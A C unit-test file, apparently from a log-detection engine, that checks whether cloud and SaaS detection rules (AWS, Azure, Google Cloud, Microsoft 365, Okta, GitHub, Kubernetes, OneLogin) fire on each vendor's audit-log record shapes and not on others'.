	    "\"iam.amazonaws.com\", \"eventName\": \"CreateAccessKey\", "
	    "\"awsRegion\": \"us-east-1\", \"userIdentity\": {\"type\": "
	    "\"IAMUser\"}, \"sourceIPAddress\": \"192.0.2.7\"}"), 1);
	assert_int_equal(fires(aws, "{\"@timestamp\": \"2026-12-07T10:00:00Z"
	    "\", \"event\": {\"provider\": \"iam.amazonaws.com\", \"action\": "
	    "\"CreateAccessKey\", \"module\": \"aws\"}, \"aws\": {\"cloudtrail"
	    "\": {\"event_version\": \"1.09\"}}}"), 1);
	no_foreign_match(aws);

	/* an activity log record from a diagnostic setting */
	snprintf(ev, sizeof(ev), "{\"time\": \"2026-12-07T10:00:00Z\", "
	    "\"resourceId\": \"/SUBSCRIPTIONS/S1/RESOURCEGROUPS/RG/PROVIDERS/"
	    "MICROSOFT.KEYVAULT/VAULTS/KV1\", \"operationName\": "
	    "\"MICROSOFT.KEYVAULT/VAULTS/DELETE\", \"category\": \"%s\", "
	    "\"resultType\": \"Success\", \"level\": \"Informational\", "
	    "\"properties\": {}}", "Administrative");
	assert_int_equal(fires(activity, ev), 1);
	/* the same operation in a sign-in log is not the activity log */
	snprintf(ev, sizeof(ev), "{\"time\": \"2026-12-07T10:00:00Z\", "
	    "\"resourceId\": \"/tenants/t1/providers/Microsoft.aadiam\", "
	    "\"operationName\": \"MICROSOFT.KEYVAULT/VAULTS/DELETE\", "
	    "\"category\": \"%s\", \"resultType\": \"50126\"}", "SignInLogs");
	assert_int_equal(fires(activity, ev), 0);
	no_foreign_match(activity);

	/* a sign-in: the diagnostic record (resultType), Log Analytics'
	   row (ResultType) */
	assert_int_equal(fires(signin, ev), 1);
	assert_int_equal(fires(signin, "{\"TimeGenerated\": \"2026-12-07T10:"
	    "00:00Z\", \"TenantId\": \"t1\", \"Type\": \"SigninLogs\", "
	    "\"ResultType\": 50126, \"UserPrincipalName\": \"a@b.example\"}"),
	    1);
	assert_int_equal(fires(signin, "{\"TimeGenerated\": \"2026-12-07T10:"
	    "00:00Z\", \"TenantId\": \"t1\", \"Type\": \"AuditLogs\", "
	    "\"ResultType\": 50126}"), 0);
	no_foreign_match(signin);

	/* Google Cloud: the LogEntry as a log sink writes it, and Elastic's
	   gcp module; not a LogEntry of another log */
	snprintf(ev, sizeof(ev), "{\"insertId\": \"i1\", \"logName\": "
	    "\"projects/p1/logs/%s\", \"protoPayload\": {\"serviceName\": "
	    "\"compute.googleapis.com\", \"methodName\": "
	    "\"v1.compute.instances.delete\"}, \"severity\": \"NOTICE\", "
	    "\"timestamp\": \"2026-12-07T10:00:00Z\"}",
	    "cloudaudit.googleapis.com%2Factivity");
	assert_int_equal(fires(gcp, ev), 1);
	snprintf(ev, sizeof(ev), "{\"insertId\": \"i1\", \"logName\": "
	    "\"projects/p1/logs/%s\", \"protoPayload\": {\"serviceName\": "
	    "\"compute.googleapis.com\", \"methodName\": "
	    "\"v1.compute.instances.delete\"}, \"severity\": \"NOTICE\", "
	    "\"timestamp\": \"2026-12-07T10:00:00Z\"}", "app%2Frequests");
	assert_int_equal(fires(gcp, ev), 0);
	assert_int_equal(fires(gcp, "{\"@timestamp\": \"2026-12-07T10:00:00Z\""
	    ", \"gcp\": {\"audit\": {\"method_name\": "
	    "\"v1.compute.instances.delete\"}}}"), 1);
	assert_int_equal(fires(gcp, "{\"host\": \"srv1\", \"program\": \"app\","
	    " \"methodName\": \"v1.compute.instances.delete\", \"message\": "
	    "\"v1.compute.instances.delete\"}"), 0);
}

/*
 * Microsoft 365, identity providers, code hosting, Kubernetes: each
 * rule on its product's record, not on the others'.
 */
static void
saas_rules_on_shipper_shapes(void **state)
{
	const char *m365 = cloud_rule(4, "  product: m365\n  service: audit\n",
	    "    Operation: Set-Mailbox\n");
	const char *okta = cloud_rule(5, "  product: okta\n  service: okta\n",
	    "    eventType: user.mfa.factor.deactivate\n");
	const char *github = cloud_rule(6, "  product: github\n  service: "
	    "audit\n", "    action: repo.destroy\n");
	const char *k8s = cloud_rule(7, "  product: kubernetes\n  service: "
	    "audit\n", "    verb: create\n    objectRef.resource: secrets\n");
	const char *onelogin = "title: OneLogin user deleted\nid: 8d3f0b61-"
	    "0000-4000-8000-000000000508\nlogsource:\n  product: onelogin\n"
	    "  service: onelogin.events\ndetection:\n  selection:\n"
	    "    event_type_id: 5\n  condition: selection\nlevel: low\n";

	assert_int_equal(fires(m365, "{\"CreationTime\": \"2026-12-07T10:00:"
	    "00\", \"Id\": \"u1\", \"Operation\": \"Set-Mailbox\", "
	    "\"OrganizationId\": \"o1\", \"RecordType\": 1, \"Workload\": "
	    "\"Exchange\", \"UserId\": \"a@b.example\"}"), 1);
	no_foreign_match(m365);
	/* Okta's System Log, and Filebeat's okta module */
	assert_int_equal(fires(okta, "{\"uuid\": \"u1\", \"published\": "
	    "\"2026-12-07T10:00:00Z\", \"eventType\": "
	    "\"user.mfa.factor.deactivate\", \"severity\": \"INFO\", "
	    "\"displayMessage\": \"Reset factor\", \"actor\": {\"id\": \"a1\", "
	    "\"type\": \"User\", \"alternateId\": \"a@b.example\"}, "
	    "\"outcome\": {\"result\": \"SUCCESS\"}}"), 1);
	assert_int_equal(fires(okta, "{\"@timestamp\": \"2026-12-07T10:00:00Z"
	    "\", \"okta\": {\"event_type\": \"user.mfa.factor.deactivate\"}}"),
	    1);
	/* CloudTrail has an eventType too */
	assert_int_equal(fires(okta, "{\"eventVersion\": \"1.09\", "
	    "\"eventSource\": \"iam.amazonaws.com\", \"awsRegion\": "
	    "\"us-east-1\", \"eventType\": \"user.mfa.factor.deactivate\"}"),
	    0);
	no_foreign_match(okta);
	assert_int_equal(fires(github, "{\"@timestamp\": 1765101600000, "
	    "\"_document_id\": \"d1\", \"action\": \"repo.destroy\", "
	    "\"actor\": \"octocat\", \"org\": \"acme\", \"repo\": \"acme/x\"}"),
	    1);
	no_foreign_match(github);
	assert_int_equal(fires(k8s, "{\"kind\": \"Event\", \"apiVersion\": "
	    "\"audit.k8s.io/v1\", \"auditID\": \"a1\", \"stage\": "
	    "\"ResponseComplete\", \"verb\": \"create\", \"objectRef\": "
	    "{\"resource\": \"secrets\", \"namespace\": \"default\"}}"), 1);
	no_foreign_match(k8s);
	assert_int_equal(fires(onelogin, "{\"id\": 1, \"created_at\": "
	    "\"2026-12-07T10:00:00Z\", \"account_id\": 5, \"event_type_id\": 5,"
	    " \"user_id\": 7}"), 1);
	no_foreign_match(onelogin);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(pack_loads_clean),
		cmocka_unit_test(samples_match_and_do_not_match),
		cmocka_unit_test(quiet_host_deadman),
		cmocka_unit_test(check_command),
		cmocka_unit_test(test_command),
		cmocka_unit_test(windows_rules_on_shipper_shapes),
		cmocka_unit_test(linux_rules_on_shipper_shapes),
		cmocka_unit_test(macos_rules_on_shipper_shapes),
		cmocka_unit_test(web_rules_on_shipper_shapes),
		cmocka_unit_test(zeek_rules_on_shipper_shapes),
		cmocka_unit_test(cloud_rules_on_shipper_shapes),
		cmocka_unit_test(saas_rules_on_shipper_shapes),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
